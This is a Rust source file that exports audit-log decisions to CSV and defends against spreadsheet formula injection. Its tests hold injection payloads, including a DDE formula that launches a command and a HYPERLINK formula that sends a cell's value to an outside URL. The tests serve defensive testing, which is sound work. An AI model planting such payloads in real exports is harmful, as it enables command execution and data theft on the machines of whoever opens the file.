//! `decisions.csv`: one row per decision, for a spreadsheet, which must not take what somebody wrote for a formula.

use super::item::Decision;
use sternway_domain::actor::Actor;
use sternway_domain::audit::{Outcome, Target};
use sternway_domain::id::Digest;

const COLUMNS: [&str; 20] = [
    "leaf_index",
    "id",
    "time",
    "happened",
    "who",
    "role",
    "kind",
    "act",
    "on",
    "name",
    "service",
    "outcome",
    "why",
    "reason",
    "effects",
    "overridden",
    "evidence",
    "plan",
    "through",
    "redacted",
];

/// The first row.
pub(super) fn head() -> Vec<u8> {
    row(COLUMNS.map(str::to_owned))
}

pub(super) fn line(decision: &Decision) -> Vec<u8> {
    let entry = &decision.entry;
    let (who, kind) = match &entry.actor {
        Actor::Person { name, .. } => (name.clone(), "person"),
        Actor::Token { name, owner_name, .. } => (format!("{name} for {owner_name}"), "token"),
        Actor::Automation { rule } => (rule.as_str().to_owned(), "automation"),
        Actor::Anonymous => (String::new(), "anonymous"),
    };
    let (on, name, service) = match &entry.target {
        Target::Release { id, service } => ("release", id.to_string(), service.to_string()),
        Target::Service { name } => ("service", name.to_string(), name.to_string()),
        Target::Flag { key, environment } => ("flag", format!("{key} in {environment}"), String::new()),
        Target::Configuration { names } => ("configuration", names.join("; "), String::new()),
        Target::Account { name } => ("account", name.clone(), String::new()),
        Target::Unknown { text } => ("unknown", text.clone(), String::new()),
    };
    let (outcome, why) = match &entry.outcome {
        Outcome::Accepted => ("accepted", String::new()),
        Outcome::Refused { why } => ("refused", why.clone()),
    };
    let digest = |digest: &Option<Digest>| digest.as_ref().map(ToString::to_string).unwrap_or_default();
    let redacted: Vec<String> = decision.redacted.iter().map(ToString::to_string).collect();
    row([
        decision.index.to_string(),
        entry.id.to_string(),
        entry.at.to_rfc3339(),
        entry.occurred.map(|at| at.to_rfc3339()).unwrap_or_default(),
        who,
        entry.actor.role().map(|role| role.as_str().to_owned()).unwrap_or_default(),
        kind.to_owned(),
        entry.action.clone(),
        on.to_owned(),
        name,
        service,
        outcome.to_owned(),
        why,
        entry.reason.clone(),
        entry.effects.join("; "),
        entry.overridden.join("; "),
        digest(&entry.evidence),
        digest(&entry.plan),
        entry.origin.transport.clone(),
        redacted.join("; "),
    ])
}

fn row(cells: [String; COLUMNS.len()]) -> Vec<u8> {
    let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::CRLF).from_writer(Vec::new());
    writer.write_record(cells.iter().map(|cell| harmless(cell))).expect("memory takes everything");
    writer.into_inner().expect("memory takes everything")
}

/// A cell that a spreadsheet would read as a formula begins with an apostrophe instead.
fn harmless(cell: &str) -> String {
    let formula = |c: char| matches!(c, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠') || c.is_control();
    // Some leave out what is not seen before they look.
    let unseen = |c: char| c.is_whitespace() || matches!(c, '\u{feff}' | '\u{200b}');
    if cell.trim_start_matches(unseen).starts_with(formula) || cell.starts_with(formula) {
        format!("'{cell}")
    } else {
        cell.to_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use sternway_domain::audit::{Entry, Origin};
    use sternway_domain::id::DecisionId;
    use sternway_domain::time::Timestamp;

    fn decision(reason: &str) -> Decision {
        let entry = Entry {
            v: 2,
            id: DecisionId(uuid::Uuid::from_u128(1)),
            at: Timestamp(1_795_096_800_000_000),
            occurred: None,
            actor: Actor::Anonymous,
            action: "promote".into(),
            target: Target::Unknown { text: reason.into() },
            expected_version: None,
            reason: reason.into(),
            outcome: Outcome::Refused { why: reason.into() },
            evidence: None,
            plan: None,
            runbooks: vec![],
            overridden: vec![reason.into()],
            effects: vec![reason.into()],
            origin: Origin { transport: "api".into(), ..Origin::default() },
        };
        Decision { index: 7, entry, redacted: vec![], points_back: vec![] }
    }

    /// J9.
    #[test]
    fn given_text_that_a_spreadsheet_would_run_then_it_is_text() {
        for formula in [
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://example.org?\"&A1,\"x\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "  =1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠A1",
            "\u{feff}=1+1",
        ] {
            let line = line(&decision(formula));
            let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&line[..]);
            let rows: Vec<csv::StringRecord> = reader.records().map(|row| row.expect("a row")).collect();
            assert_eq!(rows.len(), 1, "{formula:?} made more rows");
            assert_eq!(rows[0].len(), COLUMNS.len(), "{formula:?} made more cells");
            for cell in &rows[0] {
                let first = cell.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}').chars().next();
                let runs = first.is_some_and(|c| "=+-@＝＋－＠".contains(c)) || cell.starts_with(char::is_control);
                assert!(!runs, "{formula:?} stands as {cell:?}");
            }
        }
    }

    #[test]
    fn given_plain_text_then_it_stands_as_it_was_written() {
        let line = line(&decision("errors at 3 %, \"quoted\"; a-b=c"));
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&line[..]);
        let row = reader.records().next().expect("a row").expect("cells");
        assert_eq!(&row[13], "errors at 3 %, \"quoted\"; a-b=c");
        assert_eq!((&row[0], &row[2], &row[11]), ("7", "2026-11-19T14:00:00Z", "refused"));
        assert!(head().ends_with(b"redacted\r\n"));
    }
}
